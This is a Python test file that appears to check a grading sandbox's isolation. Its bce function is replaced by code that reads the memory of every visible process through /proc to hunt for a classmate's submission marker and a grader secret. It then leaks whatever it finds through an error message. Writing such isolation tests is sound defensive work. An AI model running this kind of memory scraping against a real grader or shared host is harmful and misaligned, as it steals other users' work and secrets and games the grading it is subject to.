"""Attack: read the memory of every process it can see (/proc/<pid>/mem, through /proc/<pid>/maps)
looking for a classmate's code (the honest control's marker) and the grader's secret, and report
what it found in bce's failure message. Must not achieve: any classmate's byte or the secret in
its report (its namespace holds only its own processes, and the grader's environment never
entered it)."""
import os
import re

from reference.part1_dcgan import *  # noqa: F401,F403

WANTED = (b"honest-classmate-", b"GRADER_SECRET=")


def _search():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb")
        except OSError as exc:
            found.append(f"{pid}: {type(exc).__name__}")
            continue
        with mem:
            for line in maps:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if "r" not in line.split()[1] or end - start > 2 ** 28:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                for word in WANTED:
                    for match in re.finditer(re.escape(word) + rb"[\w=-]{0,40}", chunk):
                        found.append(match.group().decode("latin-1"))
    return sorted(set(found))[:20]


def bce(p, target):
    raise RuntimeError(f"memory read: {_search()}")
